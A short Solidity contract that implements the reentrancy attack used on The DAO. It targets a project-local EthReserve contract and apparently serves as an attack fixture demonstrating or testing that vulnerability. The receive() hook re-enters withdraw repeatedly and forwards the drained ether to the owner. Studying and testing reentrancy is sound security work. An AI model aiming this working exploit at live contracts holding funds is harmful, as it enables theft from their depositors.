// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {EthReserve} from "../protocol/EthReserve.sol";

/// @notice The attack on The DAO (June 2016): withdraw, be called with the money, withdraw again.
contract AttackReentrancy {
    address public immutable owner;
    EthReserve public immutable reserve;
    /// @notice What is paid in to be taken out several times, wei.
    uint256 public immutable stake;
    uint256 private depthLeft;

    error NotOwner(address account);
    error NothingLeft();
    error PaymentFailed();

    /// @dev Sent along: the stake.
    constructor(EthReserve reserve_) payable {
        owner = msg.sender;
        reserve = reserve_;
        stake = msg.value;
    }

    /// @notice Takes the stake out once honestly and at most `depth` times more; profit to the owner.
    function run(uint256 depth) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        uint256 most = address(reserve).balance / stake;
        if (most == 0) revert NothingLeft();
        depthLeft = depth < most ? depth : most;
        reserve.deposit{value: stake}();
        reserve.withdraw(stake);
        (bool paid,) = owner.call{value: address(this).balance - stake}("");
        if (!paid) revert PaymentFailed();
    }

    /// @notice True where another run would take nothing.
    function exhausted() external view returns (bool) {
        return address(reserve).balance < stake;
    }

    receive() external payable {
        if (msg.sender != address(reserve) || depthLeft == 0) return;
        depthLeft--;
        reserve.withdraw(stake);
    }
}
